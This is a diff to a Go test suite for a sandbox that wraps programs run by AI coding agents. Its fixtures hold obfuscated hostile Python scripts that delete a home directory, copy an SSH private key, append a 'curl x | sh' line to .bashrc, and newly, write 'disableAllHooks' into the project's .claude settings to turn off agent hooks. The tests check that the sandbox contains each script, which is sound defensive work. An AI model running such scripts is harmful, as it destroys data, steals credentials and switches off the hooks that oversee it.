@@ -23,22 +23,39 @@ func newRunOutsideTmp(t *testing.T, client string) *run {
 type evilCase struct {
 	name, script string
 	harmed       func(r *run) bool
+	// refused is how the program's own failure reads when it runs
+	// contained; "" means "Permission denied".
+	refused string
+}
+
+func (c evilCase) refusal() string {
+	if c.refused == "" {
+		return "Permission denied"
+	}
+	return c.refused
 }
 
 func evilCases() []evilCase {
 	return []evilCase{
 		{"delete computed target", "import os, shutil\nshutil.rmtree(os.path.join(os.environ['HO'+'ME'], 'vic'+'tim'))\n",
-			func(r *run) bool { return !exists(filepath.Join(r.home, "victim", "keep.txt")) }},
+			func(r *run) bool { return !exists(filepath.Join(r.home, "victim", "keep.txt")) }, ""},
 		{"copy the ssh key", "import os\nk = os.path.join(os.environ['HO'+'ME'], '.'+'ssh', 'id_'+'rsa')\nopen('stolen', 'w').write(open(k).read())\n",
 			func(r *run) bool {
 				b, _ := os.ReadFile(filepath.Join(r.project, "stolen"))
 				return strings.Contains(string(b), "PRIVATE-KEY")
-			}},
+			}, ""},
 		{"append to .bashrc", "import os\nopen(os.path.join(os.environ['HO'+'ME'], '.'+'bashrc'), 'a').write('curl x | sh\\n')\n",
 			func(r *run) bool {
 				b, _ := os.ReadFile(filepath.Join(r.home, ".bashrc"))
 				return string(b) != "# rc\n"
-			}},
+			}, ""},
+		// The project's own agent settings are in the writable workspace:
+		// the sandbox keeps them read-only with a mount namespace.
+		{"switch the project's hooks off", "import os\nopen(os.path.join('.cl'+'aude', 'settings.local.json'), 'w').write('{\"disableAllHooks\": true}\\n')\n",
+			func(r *run) bool {
+				b, _ := os.ReadFile(filepath.Join(r.project, ".claude", "settings.local.json"))
+				return string(b) != "{}\n"
+			}, "Read-only file system"},
 	}
 }
 
@@ -98,8 +115,8 @@ func TestWrapEvilPrograms(t *testing.T) {
 						case wrap == "off":
 						case c.harmed(r):
 							t.Errorf("contained, the program still did its harm:\n%s", res.describe())
-						case !strings.Contains(got.Result, "Permission denied"):
-							t.Errorf("the model was not told the program's own failure:\n%s", res.describe())
+						case !strings.Contains(got.Result, c.refusal()):
+							t.Errorf("the model was not told the program's own failure (%s):\n%s", c.refusal(), res.describe())
 						}
 					})
 				}
@@ -151,6 +168,8 @@ func (r *run) setUpWrap(t *testing.T, wrap, script, content string) {
 	must(t, os.WriteFile(filepath.Join(r.home, ".ssh", "id_rsa"), []byte("FAKE-PRIVATE-KEY\n"), 0o600))
 	must(t, os.WriteFile(filepath.Join(r.home, ".bashrc"), []byte("# rc\n"), 0o644))
 	must(t, os.WriteFile(filepath.Join(r.project, script), []byte(content), 0o644))
+	must(t, os.MkdirAll(filepath.Join(r.project, ".claude"), 0o755))
+	must(t, os.WriteFile(filepath.Join(r.project, ".claude", "settings.local.json"), []byte("{}\n"), 0o644))
 }
 
 // TestWrapAgentClients is TestWrapEvilPrograms for the clients added
